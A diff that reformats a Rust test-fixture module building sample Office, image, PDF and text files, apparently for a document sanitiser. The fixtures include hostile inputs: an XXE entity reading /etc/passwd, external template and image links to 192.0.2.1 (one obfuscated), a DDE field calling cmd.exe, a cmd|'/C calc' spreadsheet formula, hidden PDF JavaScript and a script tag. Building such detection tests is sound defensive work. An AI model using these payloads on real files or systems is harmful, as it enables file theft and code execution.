@@ -46,7 +46,8 @@ pub fn docx(more: &[(&str, &[u8])]) -> Vec<u8> {
 }
 
 pub fn xlsx(more: &[(&str, &[u8])]) -> Vec<u8> {
-    let mut entries: Vec<(&str, &[u8])> = vec![("[Content_Types].xml", EXCEL_TYPES), ("xl/workbook.xml", WORKBOOK)];
+    let mut entries: Vec<(&str, &[u8])> =
+        vec![("[Content_Types].xml", EXCEL_TYPES), ("xl/workbook.xml", WORKBOOK)];
     if more.iter().all(|(name, _)| *name != "xl/worksheets/sheet1.xml") {
         entries.push(("xl/worksheets/sheet1.xml", SHEET));
     }
@@ -97,7 +98,9 @@ pub fn webp(width: u32, height: u32) -> Vec<u8> {
 
 pub fn jpeg(width: u32, height: u32) -> Vec<u8> {
     let mut out = Cursor::new(Vec::new());
-    let image = RgbImage::from_fn(width, height, |x, _| if x < width / 2 { image::Rgb([250, 0, 0]) } else { image::Rgb([0, 0, 250]) });
+    let image = RgbImage::from_fn(width, height, |x, _| {
+        if x < width / 2 { image::Rgb([250, 0, 0]) } else { image::Rgb([0, 0, 250]) }
+    });
     DynamicImage::ImageRgb8(image).write_to(&mut out, ImageFormat::Jpeg).unwrap();
     out.into_inner()
 }
@@ -163,11 +166,18 @@ fn packages() -> Vec<Sample> {
     let zeros = vec![b' '; 40 << 20];
     let many: Vec<String> = (0..100_000).map(|i| format!("word/{i}.xml")).collect();
     let many: Vec<(&str, &[u8])> = many.iter().map(|n| (n.as_str(), &b""[..])).collect();
-    let macro_types = String::from_utf8_lossy(WORD_TYPES).replace("document.main", "document.macroEnabled.main");
+    let macro_types =
+        String::from_utf8_lossy(WORD_TYPES).replace("document.main", "document.macroEnabled.main");
     let xxe = br#"<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>"#;
-    let template = rels(r#"<Relationship Id="1" Type="http://x/attachedTemplate" Target="http://192.0.2.1/t.dotm" TargetMode="External"/>"#);
-    let hidden = rels(r#"<Relationship Id="1" Type="http://x/image" Target="http://192.0.2.1/a.png" TargetMode="Ext&#101;rnal"/>"#);
-    let file_link = rels(r#"<Relationship Id="1" Type="http://x/hyperlink" Target="file://192.0.2.1/share/x" TargetMode="External"/>"#);
+    let template = rels(
+        r#"<Relationship Id="1" Type="http://x/attachedTemplate" Target="http://192.0.2.1/t.dotm" TargetMode="External"/>"#,
+    );
+    let hidden = rels(
+        r#"<Relationship Id="1" Type="http://x/image" Target="http://192.0.2.1/a.png" TargetMode="Ext&#101;rnal"/>"#,
+    );
+    let file_link = rels(
+        r#"<Relationship Id="1" Type="http://x/hyperlink" Target="file://192.0.2.1/share/x" TargetMode="External"/>"#,
+    );
     let dde = br#"<w:document xmlns:w="w"><w:body><w:p><w:r><w:instrText>DDE</w:instrText></w:r><w:r><w:instrText>AUTO c:\\windows\\system32\\cmd.exe</w:instrText></w:r></w:p></w:body></w:document>"#;
     let simple = br#"<w:document xmlns:w="w"><w:body><w:p><w:fldSimple w:instr="INCLUDEPICTURE http://192.0.2.1/a"/></w:p></w:body></w:document>"#;
     let formula = br#"<worksheet xmlns="s"><sheetData><row r="1"><c r="A1"><f>cmd|'/C calc'!A0</f></c></row></sheetData></worksheet>"#;
@@ -180,7 +190,11 @@ fn packages() -> Vec<Sample> {
         sample("100,000 entries", "意见.docx", docx(&many)),
         sample("docm", "意见.docm", docx(&[])),
         word("macros", &[("word/vbaProject.bin", b"\xd0\xcf\x11\xe0")]),
-        sample("macros by type", "意见.docx", zip(&[("[Content_Types].xml", macro_types.as_bytes()), ("word/document.xml", DOCUMENT)])),
+        sample(
+            "macros by type",
+            "意见.docx",
+            zip(&[("[Content_Types].xml", macro_types.as_bytes()), ("word/document.xml", DOCUMENT)]),
+        ),
         word("XXE in Word", &[("word/settings.xml", xxe)]),
         sample("XXE in Excel", "表.xlsx", xlsx(&[("xl/styles.xml", xxe)])),
         word("UTF-16 hides", &[("word/settings.xml", &utf16)]),
@@ -207,7 +221,8 @@ fn packages() -> Vec<Sample> {
 }
 
 fn pdfs() -> Vec<Sample> {
-    let action = |action: &str| pdf(&[format!("<< /S /{action} /F (x) /JS (app.alert\\(1\\)) >>").as_bytes()], "");
+    let action =
+        |action: &str| pdf(&[format!("<< /S /{action} /F (x) /JS (app.alert\\(1\\)) >>").as_bytes()], "");
     let hidden = deflate(b"9 0 << /S /JavaScript /JS (app.alert(1)) >>");
     let packed = stream("/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode", &hidden);
     let hex: String = hidden.iter().map(|b| format!("{b:02x}")).collect();
@@ -270,12 +285,17 @@ pub fn taken() -> Vec<Sample> {
     let app = br#"<?xml version="1.0"?><Properties><Company>SECRET-COMPANY</Company></Properties>"#;
     let comments = br#"<?xml version="1.0"?><comments xmlns="s"><authors><author>SECRET-AUTHOR</author></authors></comments>"#;
     let people = br#"<?xml version="1.0"?><personList><person displayName="SECRET-AUTHOR" id="{1}" userId="SECRET-AUTHOR"/></personList>"#;
-    let link = rels(r#"<Relationship Id="1" Type="http://x/hyperlink" Target="https://example.invalid/" TargetMode="External"/>"#);
+    let link = rels(
+        r#"<Relationship Id="1" Type="http://x/hyperlink" Target="https://example.invalid/" TargetMode="External"/>"#,
+    );
     let photo = photograph(40, 20);
     let info = b"<< /Author (SECRET-AUTHOR \\(1\\) \\) x) /Title (t) /Producer <5345435245542d415554484f52> /Company (SECRET-COMPANY) >>";
     let packed = stream("/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode", &deflate(b"9 0 << /Author (SECRET-AUTHOR) >> and what else is in here, long enough to be packed and to be unpacked again >>"));
     let xmp = stream("/Type /Metadata", b"<?xpacket?><x:xmpmeta>SECRET-AUTHOR</x:xmpmeta><?xpacket?>");
-    let packed_xmp = stream("/Type /Metadata /Filter /FlateDecode", &deflate(b"<x:xmpmeta xmlns:x='adobe:ns:meta/'>SECRET-AUTHOR SECRET-COMPANY and more</x:xmpmeta>"));
+    let packed_xmp = stream(
+        "/Type /Metadata /Filter /FlateDecode",
+        &deflate(b"<x:xmpmeta xmlns:x='adobe:ns:meta/'>SECRET-AUTHOR SECRET-COMPANY and more</x:xmpmeta>"),
+    );
     let in_pdf = stream("/Filter /DCTDecode", &photo);
     vec![
         sample("photograph", "照片.jpg", photo.clone()),
@@ -283,15 +303,31 @@ pub fn taken() -> Vec<Sample> {
         sample("PNG", "图.png", png(30, 10)),
         sample("JPEG called PNG", "图.png", jpeg(8, 8)),
         sample("WebP", "图.webp", webp(8, 8)),
-        sample("Word", "意见.docx", docx(&[
-            ("docProps/core.xml", core),
-            ("docProps/app.xml", app),
-            ("word/media/image1.jpeg", &photo),
-            ("word/_rels/document.xml.rels", &link),
-        ])),
-        sample("Excel", "表.xlsx", xlsx(&[("docProps/core.xml", core), ("xl/comments1.xml", comments), ("xl/persons/person.xml", people)])),
+        sample(
+            "Word",
+            "意见.docx",
+            docx(&[
+                ("docProps/core.xml", core),
+                ("docProps/app.xml", app),
+                ("word/media/image1.jpeg", &photo),
+                ("word/_rels/document.xml.rels", &link),
+            ]),
+        ),
+        sample(
+            "Excel",
+            "表.xlsx",
+            xlsx(&[
+                ("docProps/core.xml", core),
+                ("xl/comments1.xml", comments),
+                ("xl/persons/person.xml", people),
+            ]),
+        ),
         sample("PDF", "意见.pdf", pdf(&[info, &packed, &xmp, &packed_xmp, &in_pdf], "/Info 4 0 R")),
-        sample("PDF, author by reference", "意见.pdf", pdf(&[b"<< /Author 5 0 R >>", b"(SECRET-AUTHOR)"], "/Info 4 0 R")),
+        sample(
+            "PDF, author by reference",
+            "意见.pdf",
+            pdf(&[b"<< /Author 5 0 R >>", b"(SECRET-AUTHOR)"], "/Info 4 0 R"),
+        ),
         sample("text", "意见.txt", "第一条 意见\r\n<script>alert(1)</script>".as_bytes()),
         sample("text in GB18030", "意见.txt", encoding_rs::GB18030.encode("第一条意见").0.into_owned()),
     ]
